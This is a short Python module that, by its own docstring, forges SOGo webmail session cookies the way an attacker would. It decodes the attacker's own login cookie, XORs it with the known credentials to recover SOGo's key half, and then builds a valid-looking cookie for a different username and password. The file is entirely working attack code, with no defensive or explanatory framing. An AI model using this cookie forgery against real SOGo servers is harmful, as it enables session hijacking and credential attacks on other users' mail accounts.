"""SOGo's cookie as an attacker makes it: another name and password under the key of a session that is his own."""

from __future__ import annotations

import base64
from dataclasses import dataclass
from urllib.parse import quote, unquote

COOKIE = "0xHIGHFLYxSOGo"


@dataclass(frozen=True)
class Session:
    """The knowledge of a session's holder: the half of the key that is his, the session's name, and SOGo's half."""

    name: str
    half: bytes

    @classmethod
    def of(cls, value: str, uid: str, password: str) -> Session:
        """From the cookie of a log-in that one has made oneself."""
        mine, name = base64.b64decode(unquote(value).partition(" ")[2]).decode().rsplit(":", 1)
        key = base64.b64decode(mine)
        return cls(name, xor(f"{uid}:{password}".encode(), key))

    def forged(self, uid: str, password: str) -> str:
        """The cookie with which SOGo proves another password."""
        key = base64.b64encode(xor(f"{uid}:{password}".encode(), self.half)).decode()
        return "basic%20" + quote(base64.b64encode(f"{key}:{self.name}".encode()).decode(), safe="")


def xor(text: bytes, key: bytes) -> bytes:
    """Both, as far as the key goes; the text is filled up with NUL."""
    return bytes(one ^ other for one, other in zip(text.ljust(len(key), b"\0"), key, strict=True))
